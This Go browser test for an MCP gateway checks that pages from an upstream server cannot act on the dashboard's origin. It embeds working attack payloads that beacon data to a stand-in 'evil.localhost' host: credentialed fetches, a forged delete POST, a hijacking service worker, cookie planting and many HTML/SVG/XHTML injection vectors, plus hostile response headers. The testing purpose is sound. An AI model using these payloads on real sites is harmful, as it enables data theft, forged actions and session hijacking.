package browsertest

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/mcpgateway/mcpgateway/internal/app/apptest"
	"github.com/mcpgateway/mcpgateway/internal/mcpclient/upstreamtest"
)

// powers is a script that tries what a page of the dashboard's origin could do,
// and tells the upstream of each success. %[1]s is the upstream, as the browser
// reaches it by itself, %[2]s the document's name.
const powers = `
const tell = (what) => new Image().src = '%[1]s/beacon/%[2]s-' + what;
tell('script');
for (const path of ['/api/server_details/all', '/']) {
	fetch(path, {credentials: 'include'}).then(r => r.text()).then(t => t.includes('Prey') && tell('read'));
}
fetch('/delete/prey', {method: 'POST', credentials: 'include'}).then(r => r.ok && tell('deleted'));
navigator.serviceWorker?.register('/evil/worker.js', {scope: '/'}).then(() => tell('worker'));
document.cookie = 'evil=script; path=/';
if (document.cookie.includes('evil')) tell('cookie');
try { localStorage.evil = 1; tell('storage'); } catch {}
try { if (window.opener?.document) tell('opener'); } catch {}
try { if (window.parent !== window && parent.document) tell('parent'); } catch {}
window.open('%[1]s/beacon/%[2]s-popup');
`

// evilPage tries the same without a script, and with scripts of all kinds.
const evilPage = `<!doctype html><title>Evil</title>
<link rel=stylesheet href="%[1]s/beacon/%[2]s-style"><link rel=prefetch href="%[1]s/beacon/%[2]s-prefetch">
<style>@import '%[1]s/beacon/%[2]s-import'; body { background: url(%[1]s/beacon/%[2]s-background) }</style>
<script>%[3]s</script><script src="%[1]s/beacon/%[2]s-source"></script>
<img src="%[1]s/beacon/%[2]s-image" onerror="new Image().src='%[1]s/beacon/%[2]s-handler'">
<iframe src="/" onload="try { if (this.contentDocument.body.innerText) new Image().src='%[1]s/beacon/%[2]s-framed' } catch {}"></iframe>
<iframe srcdoc="<script>new Image().src='%[1]s/beacon/%[2]s-srcdoc'</script>"></iframe>
<object data="%[1]s/beacon/%[2]s-object"></object><embed src="%[1]s/beacon/%[2]s-embed"><video src="%[1]s/beacon/%[2]s-video" autoplay></video>
<svg onload="new Image().src='%[1]s/beacon/%[2]s-svg'"></svg>
<form method=post action="/delete/prey"><input id=i name=x><button id=b>Press</button></form>
<p id=loaded>Loaded</p>`

// movingPage goes elsewhere by itself, and takes its forms along.
const movingPage = `<!doctype html><title>Moving</title>
<meta http-equiv=refresh content="1;url=%[1]s/beacon/%[2]s-refresh"><base href="%[1]s/beacon/%[2]s-base/">
<form method=post action="x"><input id=i name=x><button id=b>Press</button></form>`

// postingPage sends a form by a script of an element.
const postingPage = `<!doctype html><title>Posting</title>
<form method=post action="/delete/prey"><input id=i autofocus onfocus="this.form.submit()"><button id=b>Press</button></form>`

// evilDocuments are what an upstream answers with, by name: type and body.
func evilDocuments(upstream string) map[string][2]string {
	script := func(name string) string { return fmt.Sprintf(powers, upstream, name) }
	page := func(name string) string { return fmt.Sprintf(evilPage, upstream, name, script(name)) }
	xhtml := func(name string) string {
		return `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[` + script(name) + `]]></script></body></html>`
	}
	return map[string][2]string{
		"page":   {"text/html", page("page")},
		"moving": {"text/html", fmt.Sprintf(movingPage, upstream, "moving")},
		"post":   {"text/html", postingPage},
		"none":   {"", page("none")},
		"plain":  {"text/plain", page("plain")},
		"odd":    {"foo/bar", page("odd")},
		"xhtml":  {"application/xhtml+xml", xhtml("xhtml")},
		"xml":    {"text/xml", xhtml("xml")},
		"svg":    {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[` + script("svg") + `]]></script></svg>`},
		"xslt":   {"text/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="` + upstream + `/beacon/xslt-sheet"?><x/>`},
		"json":   {"application/json", page("json")},
		"mhtml":  {"multipart/x-mixed-replace; boundary=x", "--x\r\nContent-Type: text/html\r\n\r\n" + page("mhtml") + "\r\n--x--"},
	}
}

// outerPage has the upstream's pages at the gateway in frames and a window.
const outerPage = `<!doctype html><title>Outer</title><script type=module>
const victim = location.search.slice(1);
const tell = (what) => new Image().src = '%[1]s/beacon/outer-' + what;
const loads = [];
for (const name of ['page', 'xhtml', 'svg', 'plain']) {
	for (const kind of ['iframe', 'object', 'embed']) {
		const e = document.createElement(kind);
		e[kind === 'object' ? 'data' : 'src'] = victim + '/up/evil/' + name;
		loads.push(new Promise(done => { e.onload = e.onerror = () => { try { if (e.contentDocument.body.innerText) tell('read'); } catch {} done(); }; setTimeout(done, 2000); }));
		document.body.append(e);
	}
}
loads.push(fetch(victim + '/up/evil/page', {credentials: 'include'}).then(() => tell('fetched'), () => {}));
loads.push(import(victim + '/up/evil/worker.js').then(() => tell('imported'), () => {}));
const beside = window.open(victim + '/up/evil/page');
await Promise.all(loads);
try { if (beside?.document?.getElementById('loaded')) tell('window'); } catch {}
window.tried = true;
</script>`

// evil is an upstream whose pages attack, and which keeps who told it what.
type evil struct {
	url       string
	documents map[string][2]string

	mu      sync.Mutex
	beacons []string
}

func newEvil(t *testing.T) *evil {
	t.Helper()
	e := &evil{}
	s := httptest.NewServer(e)
	t.Cleanup(s.Close)
	// Another site than the gateway's, to the browser.
	e.url = strings.Replace(s.URL, "127.0.0.1", "evil.localhost", 1)
	e.documents = evilDocuments(e.url)
	return e
}

// ServeHTTP serves the documents, with all headers that give them power.
func (e *evil) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	name, ok := strings.CutPrefix(r.URL.Path, "/beacon/")
	if r.URL.Path == "/delete/prey" {
		name, ok = "post", true
	}
	if ok {
		e.mu.Lock()
		e.beacons = append(e.beacons, name)
		e.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
		return
	}
	if r.URL.Path == "/outer" {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, outerPage, e.url)
		return
	}
	d, ok := e.documents[strings.TrimPrefix(r.URL.Path, "/evil/")]
	if r.URL.Path == "/evil/worker.js" {
		d, ok = [2]string{"text/javascript", "onfetch = e => e.respondWith(new Response('hijacked'));"}, true
	}
	if !ok {
		http.NotFound(w, r)
		return
	}
	h := w.Header()
	h["Content-Type"] = []string{d[0]}
	if d[0] == "" {
		h["Content-Type"] = nil
	}
	h.Set("Set-Cookie", "evil=header; Path=/")
	h.Add("Set-Cookie", "mcp_gateway_session=evil; Path=/")
	h.Set("Service-Worker-Allowed", "/")
	h.Set("Content-Security-Policy", "default-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin allow-forms allow-popups allow-top-navigation")
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Link", "<"+e.url+"/beacon/link>; rel=preload; as=script")
	h.Set("Clear-Site-Data", `"cookies"`)
	h.Set("Connection", "Content-Security-Policy, X-Content-Type-Options")
	_, _ = io.WriteString(w, d[1])
}

// heard is what came since the last time.
func (e *evil) heard() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	all := e.beacons
	e.beacons = nil
	slices.Sort(all)
	return all
}

// await waits for a beacon.
func (e *evil) await(t *testing.T, name string) {
	t.Helper()
	deadline := time.Now().Add(patience)
	for {
		e.mu.Lock()
		there := slices.Contains(e.beacons, name)
		e.mu.Unlock()
		if there {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s was not heard: the attack itself does not work", name)
		}
		time.Sleep(pause)
	}
}

// visit goes to an address as a person does who types it. What is no page is
// not shown, and no error.
func (b *tab) visit(url string) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil && !strings.Contains(err.Error(), "ERR_") {
		b.t.Fatal(err)
	}
}

// An upstream's pages share the dashboard's origin, and must be powerless there.
// That the attacks work is shown at an upstream's own address.
func TestAnUpstreamsPagesArePowerless(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	e, control := newEvil(t), newEvil(t)
	w.register(t, "/prey", "Prey", "http://127.0.0.1:1/mcp")
	w.register(t, "/up", "Evil", strings.Replace(e.url, "evil.localhost", "127.0.0.1", 1))
	w.enable(t, "/up")
	before := fmt.Sprint(w.details(t, "/prey"))

	controls := func() {
		for name, want := range map[string][]string{
			"post":  {"post"},
			"page":  {"page-script", "page-cookie", "page-storage", "page-worker", "page-style", "page-image", "page-handler", "page-srcdoc", "page-svg", "page-source"},
			"xhtml": {"xhtml-script"}, "xml": {"xml-script"}, "svg": {"svg-script"},
			"moving": {"moving-refresh"}, // It takes a second.
		} {
			attacked := isolated(t, control.url) // The worker would answer the next page.
			attacked.allow("")
			attacked.visit(control.url + "/evil/" + name)
			for _, beacon := range want {
				control.await(t, beacon)
			}
		}
		control.heard()
	}
	controls()

	b := w.tab(t)
	b.allow("") // Nearly all of it is refused, and said so.
	shown := 0
	for name := range e.documents {
		b.open("/")
		b.see(card("/prey", ".card-name"), "Prey")
		b.visit(w.URL + "/up/evil/" + name)
		if !look[bool](b, "Boolean(document.getElementById('b'))") {
			continue
		}
		shown++
		// A person may be talked into pressing a button.
		b.click("#b")
		b.click("#i")
	}
	if shown == 0 {
		t.Error("none of the pages was shown: this tries nothing")
	}
	// From a page of the upstream's own site, in frames and a window beside it.
	b.visit(e.url + "/outer?" + w.URL)
	b.until("window.tried")
	controls() // By then, what was to be heard has been.
	for _, heard := range e.heard() {
		t.Errorf("a page of the upstream did this through the gateway: %s", heard)
	}
	b.open("/")
	b.see(card("/prey", ".card-name"), "Prey")
	if cookies := look[string](b, "document.cookie"); cookies != "" {
		t.Errorf("there are cookies: %s", cookies)
	}
	if look[bool](b, "'evil' in localStorage") {
		t.Error("the dashboard's storage was written to")
	}
	look[bool](b, "Boolean(navigator.serviceWorker.getRegistrations().then((all) => { window.workers = all.length; }))")
	b.until("'workers' in window")
	if n := look[int](b, "window.workers"); n != 0 {
		t.Errorf("%d service workers", n)
	}
	if after := fmt.Sprint(w.details(t, "/prey")); after != before {
		t.Errorf("the service was\n%s\nand is\n%s", before, after)
	}
}

// mcpClient is a page whose script lists tools, with a token or with whatever
// cookie the browser has.
const mcpClient = `<!doctype html><title>Client</title><script type=module>
const [gateway, token] = location.hash.slice(1).split(',');
const list = (headers, credentials) => fetch(gateway, {
	method: 'POST', credentials, body: JSON.stringify({jsonrpc: '2.0', id: 1, method: 'tools/list', params: {}}),
	headers: {'Content-Type': 'application/json', 'Accept': 'application/json, text/event-stream', 'MCP-Protocol-Version': '2025-11-25', ...headers},
}).then(async r => r.status + ' ' + await r.text(), () => 'refused');
window.got = {
	token: await list({Authorization: 'Bearer ' + token}, 'omit'),
	cookie: await list({}, 'include'),
	simple: await fetch(gateway, {method: 'POST', credentials: 'include', body: '{}'}).then(r => r.text(), () => 'refused'),
};
</script>`

// A page of an allowed origin is a client like any other, with a token. Nobody
// else's page is, and no page is one by the cookie of who looks at it.
func TestPagesAsClients(t *testing.T) {
	t.Parallel()
	chromium.context(t)
	pages := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, mcpClient)
	}))
	t.Cleanup(pages.Close)
	at := func(host string) string { return strings.Replace(pages.URL, "127.0.0.1", host, 1) }
	c := settings(t)
	c.CORSOrigins = []string{at("app.localhost")}
	s := apptest.Start(t, c)
	w := &world{Server: s, client: s.SignedIn(t)}
	upstream := upstreamtest.Serve(t, upstreamtest.Scripted(func(string) string { return `{"tools":[{"name":"forecast","inputSchema":{}}]}` }))
	w.register(t, "/weather", "Weather", upstream)
	w.enable(t, "/weather")
	token := w.token(t)

	for host, allowed := range map[string]bool{"app.localhost": true, "other.localhost": false, "localhost": false, "127.0.0.1": false} {
		b := w.tab(t)
		b.allow("") // What is refused is complained about.
		b.visit(at(host) + "/#" + w.URL + "/weather/mcp," + token)
		b.until("window.got")
		got := look[map[string]string](b, "window.got")
		if listed := strings.Contains(got["token"], "forecast"); listed != allowed {
			t.Errorf("%s, with a token: %s", host, got["token"])
		}
		if strings.Contains(got["cookie"]+got["simple"], "forecast") || strings.HasPrefix(got["cookie"], "200") {
			t.Errorf("%s, with the cookie: %s, %s", host, got["cookie"], got["simple"])
		}
	}
}

// token makes a token for all services.
func (w *world) token(tb testing.TB) string {
	tb.Helper()
	res, err := w.client.Post(w.URL+"/api/tokens", "application/json", strings.NewReader(`{"name": "page", "scope": "gateway"}`))
	if err != nil {
		tb.Fatal(err)
	}
	defer func() { _ = res.Body.Close() }()
	var made struct{ Token string }
	if err := json.NewDecoder(res.Body).Decode(&made); err != nil || made.Token == "" {
		tb.Fatalf("no token: %s, %v", res.Status, err)
	}
	return made.Token
}
